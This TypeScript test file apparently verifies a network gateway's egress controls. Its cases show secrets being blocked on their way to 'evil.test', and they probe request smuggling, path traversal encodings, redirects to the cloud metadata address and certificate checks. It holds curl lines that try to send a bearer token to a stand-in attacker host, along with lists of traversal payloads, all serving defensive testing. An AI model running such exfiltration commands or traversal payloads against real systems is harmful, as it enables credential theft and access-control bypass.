/**
 * What is said inside a connection is what it was opened for: conformance cases N10, N11, N18, N19
 * and N22 to N24, toward hosts whose TLS is opened and hosts whose TLS is not.
 */
import assert from "node:assert/strict";
import { assertEcho, assertFetches, type Case, testCases } from "./support/internet/cases.ts";
import { assertSilent } from "./support/internet/evidence.ts";
import { requestsOf, textOf } from "../../src/verify/internet/evidence.ts";
import { BAD_CERTIFICATES } from "../../src/verify/internet/certificates.ts";
import {
  connect,
  curl,
  everyProxy,
  formatGet,
  raw,
  run,
} from "../../src/verify/internet/probes.ts";
import { smuggle, SMUGGLED } from "../../src/verify/internet/smuggling.ts";

const NETWORK = `allow = [
  "allowed.test", "also.test:8443", "*.wild.test", "inject.test", "splice.test", "big.test",
  "https://path.test/public", "model.test",
  "expired.test", "wrong-host.test", "self-signed.test", "untrusted.test",
]
block = [{ dest = "big.test", paths = ["/private"] }]
passthrough = ["splice.test"]
`;

/** Its hosts' TLS is opened, to put it in. */
const SECRET = "real-value-of-the-test-token-8c1f";
const CONFIG = '[secrets.TEST_TOKEN]\nfrom = "env"\nto = ["inject.test", "model.test"]\n' +
  '[inspect]\nhosts = ["expired.test", "wrong-host.test", "self-signed.test", "untrusted.test"]\n';

const REFUSED = /^HTTP\/1\.1 4(00|03|21) /;
const OPENED = { host: "@gateway", port: 443, tls: { sni: "inject.test" } };
const KEPT = "GET / HTTP/1.1\r\nHost: inject.test\r\n\r\n";

const cases: Case[] = [
  ["N10 a request for another host than the connection's", async ({ internet, cage }) => {
    const other = (host: string) => `GET /foreign HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
    const upgrade = "GET /foreign HTTP/1.1\r\nHost: evil.test\r\nConnection: Upgrade\r\n" +
      "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n" +
      "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
    const hosts = ["evil.test", "model.test", "inject.test.evil.test", "inject.test:8443"];
    const outcomes = await cage.probe([
      ...hosts.flatMap((host) => [
        raw(`first ${host}`, { ...OPENED, send: [other(host)] }),
        raw(`second ${host}`, { ...OPENED, send: [KEPT, other(host)] }),
        connect(`tunnel ${host}`, "inject.test:443", { tls: OPENED.tls, send: [other(host)] }),
      ]),
      raw("upgrade", { ...OPENED, send: [upgrade] }),
      raw("unknown upgrade", {
        ...OPENED,
        send: [KEPT.replace("\r\n\r\n", "\r\nConnection: Upgrade\r\nUpgrade: evil\r\n\r\n")],
      }),
      raw("plain second", {
        host: "@gateway",
        port: 80,
        send: [KEPT.replace("inject", "allowed"), other("evil.test")],
      }),
      {
        id: "h2",
        kind: "h2",
        host: "@gateway",
        port: 443,
        sni: "inject.test",
        requests: [
          { authority: "inject.test", path: "/own" },
          ...hosts.map((authority) => ({ authority, path: "/foreign" })),
        ],
      },
    ]);
    const events = await internet.events();
    assertSilent(events, internet, { names: ["inject.test", "allowed.test"], echo: true });
    assert.deepEqual(requestsOf(events).filter(({ target }) => target === "/foreign"), []);
    for (const host of hosts) {
      assert.match(outcomes.get(`first ${host}`).data, REFUSED, host);
      assert.match(outcomes.get(`tunnel ${host}`).data, REFUSED, host);
      // The control on the same connection: its own host was answered before.
      assert.match(outcomes.get(`second ${host}`).data, /^HTTP\/1\.1 200 [^]*HTTP\/1\.1 4\d\d /);
    }
    assert.match(outcomes.get("upgrade").data, REFUSED);
    assert.doesNotMatch(outcomes.get("unknown upgrade").data, /^HTTP\/1\.1 101 /);
    const answers = outcomes.get("h2").answers ?? [];
    assert.deepEqual(answers.map(({ status }) => status === 200), [
      true,
      false,
      false,
      false,
      false,
    ]);
  }],
  ["N10 two requests in the bytes of one", async ({ internet, cage }) => {
    // Some are left waiting for the rest of a body: that is an answer, too.
    const waitMs = 3000;
    const plain = { host: "@gateway", port: 80, waitMs };
    const names = Object.keys(SMUGGLED);
    const outcomes = await cage.probe(names.flatMap((name) => [
      raw(`plain ${name}`, { ...plain, send: [smuggle(name, "allowed.test")] }),
      raw(`opened ${name}`, { ...OPENED, waitMs, send: [smuggle(name, "inject.test")] }),
    ]));
    const events = await internet.events();
    assertSilent(events, internet, { names: ["inject.test", "allowed.test"], echo: true });
    assert.deepEqual(requestsOf(events).filter(({ target }) => target === "/smuggled"), []);
    for (const { id, data } of outcomes.all) {
      // Refused, or answered by nobody at all.
      assert.match(data, /^(HTTP\/1\.1 (4\d\d|501) |$)/, id);
    }
    const whole = (host: string) =>
      `POST / HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n`;
    const controls = await cage.probe([
      raw("plain", { ...plain, send: [whole("allowed.test")] }),
      raw("opened", { ...OPENED, send: [whole("inject.test")] }),
    ]);
    for (const { id, data } of controls.all) assert.match(data, /^HTTP\/1\.1 200 [^]*"abc"/, id);
  }],
  ["N11 a secret on its way to an attacker's address", async (given) => {
    const { internet, cage } = given;
    const { decoy, echo } = internet.addresses;
    const header = ["-k", "-H", "authorization: Bearer $TEST_TOKEN"];
    const sh = (id: string, args: string[], env = {}) =>
      run(id, ["sh", "-c", `curl -sS -m 5 ${args.map((arg) => `"${arg}"`).join(" ")}`], { env });
    const url = "https://inject.test/";
    const unset = everyProxy(null);
    const outcomes = await cage.probe([
      sh("own address", [...header, "--resolve", `inject.test:443:${decoy}`, url], unset),
      sh("tunnel to the attacker", [...header, "--connect-to", "::evil.test:443", url]),
      sh("tunnel to an address", [...header, "--connect-to", `::${decoy}:443`, url]),
      sh("the attacker's name", [...header, "-H", "Host: inject.test", "https://evil.test/"]),
      sh("plain", [...header, "http://evil.test/"]),
      sh("query", ["http://evil.test/?key=$TEST_TOKEN"]),
      raw("sni", { host: "@gateway", port: 443, tls: { sni: "evil.test" }, send: [KEPT] }),
    ]);
    assertSilent(await internet.events(), internet);
    for (const { id, data } of outcomes.all) assert.doesNotMatch(data, /"request"/, id);
    // A name server that lies: the address is public, but its certificate is not that of the host.
    internet.script("inject.test", { answers: [[decoy]] });
    // A new session's gateway: the other one has connections to the right address open.
    await using session = await cage.idle();
    const lied = await session.probe([sh("lie", [...header, url])]);
    const events = await internet.events();
    assert.ok(events.some((event) => event.kind === "connection" && event.role === "decoy"));
    assert.match(lied.get("lie").data, /"reason":"upstream-certificate"/);
    assert.deepEqual(requestsOf(events), []);
    assert.ok(!textOf(events).includes(SECRET));
    internet.script("inject.test", { answers: [[echo]] });
    assertEcho((await session.probe([sh("own", [...header, url])])).get("own"), "inject.test");
    assert.ok(textOf(await internet.events()).includes(SECRET), "and with it the control arrives");
  }],
  ["a host whose certificate is wrong is not spoken to", async ({ internet, cage }) => {
    const bad = Object.values(BAD_CERTIFICATES);
    const outcomes = await cage.probe([
      // Our own end is not what the client would object to.
      ...bad.map((host) =>
        curl(host, ["-k", "-i", "--suppress-connect-headers", `https://${host}/`])
      ),
      curl("good", ["https://model.test/"]),
      curl("broken off", ["https://model.test/reset"]),
    ]);
    const events = await internet.events();
    assertSilent(events, internet, { names: [...bad, "model.test"], echo: true });
    assert.deepEqual(requestsOf(events).filter(({ host }) => host !== "model.test"), []);
    for (const host of bad) {
      assert.match(
        outcomes.get(host).data,
        /^HTTP\/\S+ 502 [^]*"reason":"upstream-certificate"/,
        host,
      );
    }
    assertEcho(outcomes.get("good"), "model.test");
    // Half an answer is not passed off as a whole one.
    assert.notEqual(outcomes.get("broken off").code, 0);
    assert.match(outcomes.get("broken off").data, /^the beginning/);
  }],
  ["N18 paths: what was checked is what is sent", async ({ internet, cage }) => {
    const fetch = (url: string) => curl(url, ["--path-as-is", "-g", url]);
    const wrong = [
      ...["/", "/secret", "/public-evil", "/Public", "/public/../secret", "/public/%2e%2e/secret"],
      ...["/public/%252e%252e/secret", "/public/..%2fsecret", "/public/%2e%2e%5csecret"],
      ...["/public/..;/secret", "/public;/../secret", "//secret", "/public/.%2e/secret"],
      ...["/public\\..\\secret", "/public%2f..%2fsecret", "/x/../public/../secret", "/public%00"],
      ...["/%70ublic/../%73ecret", "/public/%c0%ae%c0%ae/secret", "/public/x%3f/../../secret"],
    ].map((path) => `https://path.test${path}`);
    const blocked = [
      ...["/private", "/private/x", "/%70rivate", "/x/../private", "//private", "/./private"],
      ...["/%2570rivate", "/private;x=1", "/private%2fx", "/x/%2e%2e/private/", "/\\private"],
      ...["/private?x=1", "/x/..;/private", "/private/../private"],
    ].map((path) => `https://big.test${path}`);
    const outcomes = await cage.probe([...wrong, ...blocked].map(fetch));
    const events = await internet.events();
    assertSilent(events, internet, { names: ["path.test", "big.test"] });
    for (const { id, data } of outcomes.all) assert.match(data, /"blocked":true/, id);
    const right = [
      ...[
        "/public",
        "/public/",
        "/public/x",
        "/public?x=/../secret",
        "/%70ublic/x",
        "/x/../public/y",
      ]
        .map((path) => `https://path.test${path}`),
      ...["/", "/public", "/privateer", "/x/private"].map((path) => `https://big.test${path}`),
    ];
    const controls = await cage.probe(right.map(fetch));
    for (const { id, data } of controls.all) {
      const { target } = JSON.parse(data) as { target?: string };
      assert.ok(target !== undefined, id);
      const path = decodeURIComponent(new URL(target, "https://x").pathname);
      if (id.includes("path.test")) assert.match(path, /^\/public(\/|$)/, id);
      else assert.doesNotMatch(path, /^\/private(\/|$)/, id);
      // Nothing is left for another reader to resolve.
      assert.doesNotMatch(target.replace(/\?.*/, ""), /\.\.|\\|\/\/|%2e/i, id);
    }
  }],
  ["N19 a redirect is a request of its own", async ({ internet, cage }) => {
    const to = (id: string, url: string) =>
      curl(id, ["-L", `https://allowed.test/redirect?to=${encodeURIComponent(url)}`]);
    const outcomes = await cage.probe([
      to("https", "https://evil.test/"),
      to("http", "http://evil.test/"),
      to("address", `http://${internet.addresses.decoy}/`),
      to("metadata", "http://169.254.169.254/"),
      to("allowed", "https://big.test/after"),
    ]);
    const events = await internet.events();
    assertSilent(events, internet, { names: ["allowed.test", "big.test"], echo: true });
    for (const id of ["https", "http", "address", "metadata"]) {
      assert.doesNotMatch(outcomes.get(id).data, /"request"/, id);
    }
    assertEcho(outcomes.get("allowed"), "big.test");
  }],
  ["N22 two names on one address", async (given) => {
    const { internet, cage } = given;
    const tunnel = { tls: { sni: "shared.test" }, send: [formatGet("shared.test")] };
    const outcomes = await cage.probe([
      curl("https", ["https://shared.test/"]),
      curl("https direct", ["https://shared.test/"], { env: everyProxy(null) }),
      curl("http", ["http://shared.test/"]),
      connect("tunnel", "allowed.test:443", tunnel),
      raw("direct", { host: "@gateway", port: 443, ...tunnel }),
      raw("plain", { host: "@gateway", port: 80, send: [formatGet("shared.test")] }),
    ]);
    assertSilent(await internet.events(), internet);
    for (const { id, data } of outcomes.all) assert.doesNotMatch(data, /"request"/, id);
    await assertFetches(given, "https://allowed.test/");
    await assertFetches(given, "https://big.test/");
  }],
  ["N23 ports, wildcards and their apex", async ({ internet, cage }) => {
    const get = (host: string, port: number) => [
      curl(`https://${host}:${port}`, [`https://${host}:${port}/`]),
      curl(`https://${host}:${port} direct`, [`https://${host}:${port}/`], {
        env: everyProxy(null),
      }),
    ];
    const outcomes = await cage.probe([
      ...get("allowed.test", 8443),
      ...get("also.test", 443),
      ...get("wild.test", 443),
      ...get("wild.test.evil.test", 443),
      ...get("evilwild.test", 443),
      ...get("www.wild.test", 8443),
    ]);
    assertSilent(await internet.events(), internet);
    for (const { id, data } of outcomes.all) assert.doesNotMatch(data, /"request"/, id);
    const controls = await cage.probe([
      ...get("also.test", 8443),
      ...get("www.wild.test", 443),
      ...get("deep.www.wild.test", 443),
    ]);
    for (const { id, data } of controls.all) assert.match(data, /"request"/, id);
  }],
  ["N24 a denial says who, why and what to do", async ({ internet, cage }) => {
    const outcomes = await cage.probe([
      curl("plain", ["-i", "http://evil.test/path?query=private"]),
      connect("connect", "evil.test:443"),
      curl("rule", [
        "-i",
        "--suppress-connect-headers",
        "https://big.test/private/x?query=private",
      ]),
      curl("allowed", ["-i", "http://allowed.test/"]),
    ]);
    assertSilent(await internet.events(), internet, { names: ["allowed.test"], echo: true });
    const denials = ["plain", "connect", "rule"].map((id) => {
      const text = outcomes.get(id).head ?? outcomes.get(id).data;
      assert.match(text, /^HTTP\/[12](\.1)? 403/, id);
      assert.match(text, /^x-gateway-blocked: \S+/mi, id);
      const body = JSON.parse(text.slice(text.lastIndexOf("\r\n\r\n"))) as Record<string, unknown>;
      assert.deepEqual([body.blocked, body.retry, body.by], [true, false, "gateway"], id);
      return [body.host, body.reason, body.rule];
    });
    assert.deepEqual(denials.slice(0, 2), Array(2).fill(["evil.test", "no-rule", null]));
    assert.deepEqual(denials[2]!.slice(0, 2), ["big.test", "block-rule"]);
    assert.match(String(denials[2]![2]), /big\.test.*network\.block\[0\]/);
    assert.doesNotMatch(outcomes.get("allowed").data, /x-gateway-blocked/i);
    const audit = await cage.audit();
    const lines = audit.filter(({ decision, host }) => decision === "deny" && host === "evil.test");
    assert.ok(lines.some(({ reason, path }) => reason === "no-rule" && path === "/path"));
    const ruled = audit.find(({ path }) => path === "/private/x");
    assert.equal(ruled?.reason, "block-rule");
    assert.equal(ruled?.service, "shell");
    assert.ok(!JSON.stringify(audit).includes("query="), "no query is written down");
  }],
];

testCases("requests and connections", {
  network: NETWORK,
  config: CONFIG,
  env: { TEST_TOKEN: SECRET },
  cases,
});
